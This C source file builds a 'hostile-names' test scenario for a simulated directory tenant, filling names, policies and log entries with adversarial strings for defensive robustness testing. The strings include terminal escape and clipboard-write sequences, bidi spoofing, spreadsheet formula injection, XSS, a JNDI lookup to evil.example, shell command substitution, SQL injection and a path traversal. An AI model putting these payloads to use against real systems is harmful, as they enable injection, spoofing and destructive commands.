#include "graph/tenant/scenario_parts.h"

#include <string.h>

#include "graph/base/mem.h"
#include "graph/base/str.h"

/*
 * hostile-names: contoso where every text that somebody could have typed is an
 * attack on a terminal, a spreadsheet, a web page, a log or a layout (facts
 * sign-in-and-transport.md 9). Bytes are written out so that this file stays
 * harmless itself.
 */
#define ESC "\x1b"
#define BEL "\x07"
#define RLO "\xe2\x80\xae"	/* right-to-left override */
#define LRI "\xe2\x81\xa6"	/* isolate, never closed */
#define ZWSP "\xe2\x80\x8b"	/* zero-width space */
#define ZWJ "\xe2\x80\x8d"
#define BOM "\xef\xbb\xbf"
#define NBSP "\xc2\xa0"
#define LINE_SEPARATOR "\xe2\x80\xa8"
#define C1_CSI "\xc2\x9b"	/* U+009B, a CSI in one character */
#define ACUTE "\xcc\x81"
#define TAG_A "\xf3\xa0\x81\x81"

static const char *const names[] = {
	ESC "[2J" ESC "[1;31mRoot" ESC "[0m Access",
	ESC "]52;c;cm0gLXJmIH4K" BEL "Clip Board",
	ESC "]0;owned" BEL ESC "]8;;http://evil.example" ESC "\\Click" ESC "]8;;" ESC "\\ Me",
	"Anna" RLO "nimdA labolG",
	LRI "Isolated Person",
	"Ad" ZWSP "min" ZWJ " Zero" BOM " Width",
	"Line\r\nBreak: 200 OK\r\nSet-Cookie: a=b",
	"=cmd|' /C calc'!A0",
	"+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
	"<script>alert(document.cookie)</script>",
	"\"><img src=x onerror=alert(1)>",
	"</td></table><h1>Not a report</h1>",
	"[click](javascript:alert(1)) **bold** `code` | pipe | # head",
	"%s%s%s%n %x %d", "%n%n%n%n", "${jndi:ldap://evil.example/a}",
	"$(reboot) `reboot` ; reboot && reboot",
	"Robert'); DROP TABLE users;--",
	"../../../../etc/passwd",
	"\xf0\x9f\x91\xa9" ZWJ "\xf0\x9f\x92\xbb" " Family " "\xf0\x9f\x91\xa8" ZWJ
	"\xf0\x9f\x91\xa9" ZWJ "\xf0\x9f\x91\xa7",
	"\xf0\x9d\x95\xb1\xf0\x9d\x96\x91\xf0\x9d\x96\x94 Fraktur",
	"\xe9\xab\x98\xe6\xa9\x8b\xe9\xba\xbb\xe8\xa1\xa3\xe5\xad\x90"
	"\xef\xbc\x88\xe6\x9d\xb1\xe4\xba\xac\xe6\x9c\xac\xe7\xa4\xbe\xef\xbc\x89",
	"Z" ACUTE ACUTE ACUTE ACUTE ACUTE ACUTE ACUTE ACUTE "a" ACUTE ACUTE ACUTE ACUTE
	ACUTE ACUTE ACUTE ACUTE "l" ACUTE ACUTE ACUTE ACUTE ACUTE ACUTE "go",
	ACUTE ACUTE "Begins with a mark",
	C1_CSI "31mOne character CSI",
	"Next" LINE_SEPARATOR "Line",
	"Bell" BEL BEL BEL "\x08\x08\x08\x7f Backspace",
	"Tag" TAG_A TAG_A " Characters",
	"\xef\xbf\xbd\xef\xbf\xbf\xef\xb7\x90 Noncharacters",
	"\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7 123",
	"\\u001b[31m\\x1b[31m\\033[31m Escaped twice",
	"null", "", " ", NBSP NBSP,
};

static const char *name_at(size_t i)
{
	return names[i % COUNT_OF(names)];
}

/* A name of that many letters, for layouts. */
static char *long_name(size_t n)
{
	static const char word[] = "Wolfeschlegelsteinhausenbergerdorff";
	char *name = xmalloc(n + 1);

	for (size_t i = 0; i < n; i++)
		name[i] = word[i % (sizeof(word) - 1)];
	name[n] = '\0';
	return name;
}

static void rename_people(struct scenario *s)
{
	struct json *u = json_first_mutable(json_get_mutable(s->state, "users"));
	char *longest = long_name(256);
	size_t i = 0;

	for (; u; u = json_next_mutable(u), i++) {
		json_set_string(u, "displayName", i == 2 ? longest : name_at(i));
		json_set_string(u, "givenName", name_at(i + 3));
		json_set_string(u, "surname", name_at(i + 5));
		json_set_string(u, "department", name_at(i + 7));
		json_set_string(u, "jobTitle", name_at(i + 11));
		json_set_string(u, "officeLocation", name_at(i + 13));
	}
	json_set_string(scenario_user(s, "sean.obrien"), "userPrincipalName",
			"sean.o'brien+a&b#c%41?@contoso.com");
	json_set_string(scenario_user(s, "noah.fischer"), "userPrincipalName",
			"=cmd|' /C calc'!A0@contoso.com");
	json_set_string(scenario_user(s, "elena.petrova"), "userPrincipalName",
			"\xd0\xb5lena.petrova@\xd1\x81ontoso.com");
	free_ptr(&longest);
}

static void rename_all(struct json *list, const char *key, size_t from)
{
	for (struct json *j = json_first_mutable(list); j; j = json_next_mutable(j))
		json_set_string(j, key, name_at(from++));
}

static void rename_tenant(struct scenario *s)
{
	struct json *org = json_get_mutable(s->state, "organization");
	struct json *e = json_first_mutable(
		json_get_mutable(json_get_mutable(s->state, "log"), "directoryAudits"));

	json_set_string(org, "displayName", "Con" RLO "toso" ESC "[31m <b>Ltd</b> %s" NBSP "=1+1");
	rename_all(json_get_mutable(s->state, "groups"), "displayName", 0);
	rename_all(json_get_mutable(s->state, "groups"), "description", 6);
	rename_all(json_get_mutable(s->state, "conditionalAccessPolicies"), "displayName", 12);
	rename_all(json_get_mutable(s->state, "subscribedSkus"), "skuPartNumber", 0);
	rename_all(json_get_mutable(s->state, "directoryRoles"), "description", 15);
	json_set_string(json_get_mutable(s->state, "branding"), "signInPageText",
			"<script>alert(1)</script>" ESC "[5m");
	for (size_t i = 0; e; e = json_next_mutable(e), i++) {
		struct json *target = json_first_mutable(json_get_mutable(e, "targetResources"));

		json_set_string(e, "resultReason", name_at(i));
		json_set_string(target, "displayName", name_at(i + 9));
	}
}

/* A policy change whose values are not what they should be. */
static void add_hostile_change(struct scenario *s)
{
	scenario_policy_change(s, "admin", 3 * DAY_MS, "notifyUsersOnPasswordReset",
			       ESC "[31m\"true\"", "=cmd|' /C calc'!A0\r\nfalse");
	scenario_policy_change(s, "admin", 2 * DAY_MS, "<b>field</b>" ESC "]52;c;QQ==" BEL,
			       "{\"a\":[[[[", "%n%s");
}

struct json *scenario_hostile_names(void)
{
	struct scenario s;

	scenario_contoso_base(&s, "hostile-names", 5);
	scenario_contoso_life(&s);
	add_hostile_change(&s);
	rename_people(&s);
	rename_tenant(&s);
	return scenario_finish(&s, 4 * HOUR_MS);
}
